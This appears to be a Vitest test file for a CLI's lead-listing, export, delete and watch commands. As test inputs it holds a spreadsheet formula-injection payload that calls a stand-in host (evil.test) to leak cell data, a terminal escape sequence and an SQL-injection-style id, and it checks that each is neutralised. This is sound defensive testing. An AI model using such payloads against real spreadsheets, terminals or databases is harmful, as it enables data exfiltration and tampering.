// shingle leads: what it shows while serve runs and after.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { plainEnvironment } from '../setup/environment';
import { onSample, project, shingle } from '../setup/run';
import { contact, insertRequest, promotion, type Running, scratchFolder, startServe } from './running';

const scratch = scratchFolder('leads');
const folder = join(scratch.folder, 'leads');
let server: Running;

beforeAll(async () => {
  server = await startServe(['--out', inject('site'), '--leads', folder]);
});
afterAll(async () => {
  await server.end();
  scratch.clear();
});

const leads = (...args: string[]) => shingle(['leads', ...args, '--leads', folder]);

async function insert(table: string, row: Record<string, unknown>): Promise<void> {
  expect((await fetch(`${server.url}rest/v1/${table}`, insertRequest(server.key, row))).status).toBe(201);
}

const FORMULA = '=HYPERLINK("https://evil.test/?"&A1,"click")';

describe('shingle leads, one after the other', () => {
  it('says when there are none', () => {
    expect(leads('list')).toEqual({ status: 0, stdout: '', stderr: 'No leads yet.\n' });
    expect(leads('list', '--json')).toEqual({ status: 0, stdout: '[]\n', stderr: '' });
    expect(leads('export').stdout).toMatch(/^\ufeffkind,id,saved_at,name,email,.*\r\n$/);
  });

  it('lists what has come, oldest first', async () => {
    await insert('contact_submissions', contact({ name: FORMULA, emergency: true, message: 'First line\n\u001b[2Jsecond "line"' }));
    await insert('promotion_leads', promotion());
    const { status, stdout } = leads('list');
    expect(status).toBe(0);
    expect(stdout).toMatch(/contact {2}EMERGENCY {2}[0-9a-f-]{36}\n[\s\S]*promotion {2}[0-9a-f-]{36}\n {2}name: Ben Example/);
    expect(stdout).toContain('message: First line\n    \ufffd[2Jsecond "line"');
    expect(stdout).not.toContain('\u001b');
    expect(JSON.parse(leads('list', '--json').stdout)).toEqual([
      {
        kind: 'contact',
        id: expect.any(String),
        savedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/),
        ...contact({ name: FORMULA, emergency: true, message: 'First line\n\u001b[2Jsecond "line"' }),
      },
      { kind: 'promotion', id: expect.any(String), savedAt: expect.any(String), ...promotion() },
    ]);
  });

  it('exports CSV that a spreadsheet does not run', () => {
    const { stdout } = leads('export');
    const [, first = ''] = stdout.split('\r\n');
    expect(first).toMatch(/^contact,[0-9a-f-]{36},[^,]+,"'=HYPERLINK\(""https:\/\/evil.test\/\?""&A1,""click""\)",ann@example.com,/);
    expect(stdout).toContain('"First line\n');
    expect(leads('list', '--csv').stdout).toBe(stdout);
    expect(stdout).toContain('\ufffd[2Jsecond');
    expect(stdout).not.toContain('\u001b');
    expect((JSON.parse(leads('export', '--json').stdout) as unknown[]).length).toBe(2);
  });

  it('deletes one, by its id', () => {
    const [, { id }] = JSON.parse(leads('list', '--json').stdout) as [unknown, { id: string }];
    expect(leads('delete', id)).toEqual({ status: 0, stdout: `Deleted: promotion ${id}\n`, stderr: '' });
    expect(leads('delete', id)).toMatchObject({ status: 1, stdout: '', stderr: expect.stringContaining(`there is no lead ${id}`) });
    expect(leads('delete', "' or true")).toMatchObject({ status: 1, stderr: expect.stringContaining('is not an id of a lead') });
    expect((JSON.parse(leads('list', '--json').stdout) as unknown[]).length).toBe(1);
  });

  it('watches: tells what comes, not what was there', async () => {
    const watch = spawn(process.execPath, [join(project, 'bin/shingle'), 'leads', 'watch', '--json', '--leads', folder], {
      env: plainEnvironment(),
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const exited = once(watch, 'exit');
    try {
      await once(createInterface({ input: watch.stderr }), 'line');
      const line = once(createInterface({ input: watch.stdout }), 'line');
      await insert('contact_submissions', contact({ name: 'Seen at once' }));
      expect(JSON.parse(String((await line)[0]))).toMatchObject({ kind: 'contact', name: 'Seen at once' });
    } finally {
      watch.kill('SIGTERM');
    }
    expect((await exited)[0]).toBe(0);
  });

  it('checks the running server, and stores nothing', () => {
    const before = leads('list', '--json').stdout;
    const run = leads('check');
    expect(run).toMatchObject({ status: 0, stderr: '' });
    expect(run.stdout).toContain('Good: the embedded store takes leads and protects them.');
    expect(leads('list', '--json').stdout).toBe(before);
  });

  it('does the same without a server', async () => {
    const before = leads('list', '--json').stdout;
    await server.end();
    expect(leads('list', '--json').stdout).toBe(before);
    expect(leads('check')).toMatchObject({ status: 0, stderr: '' });
    const both = await Promise.all([run(['leads', 'list', '--json', '--leads', folder]), run(['leads', 'list', '--json', '--leads', folder])]);
    expect(both).toEqual([before, before]);
    server = await startServe(['--out', inject('site'), '--leads', folder]);
  });

  it('does not make a folder by looking for it', () => {
    const nothing = join(scratch.folder, 'nothing');
    for (const command of ['list', 'export', 'watch', 'check']) {
      const run = shingle(['leads', command, '--leads', nothing]);
      expect([command, run.status]).toEqual([command, 1]);
      expect(run.stderr).toContain('no leads are kept here');
    }
    mkdirSync(nothing);
    expect(shingle(['leads', 'list', '--leads', nothing]).status).toBe(1);
  });
});

function run(args: string[]): Promise<string> {
  const child = spawn(process.execPath, [join(project, 'bin/shingle'), ...onSample(args)], { env: plainEnvironment(), stdio: ['ignore', 'pipe', 'inherit'] });
  let stdout = '';
  child.stdout.setEncoding('utf8').on('data', (text: string) => (stdout += text));
  return once(child, 'exit').then(() => stdout);
}
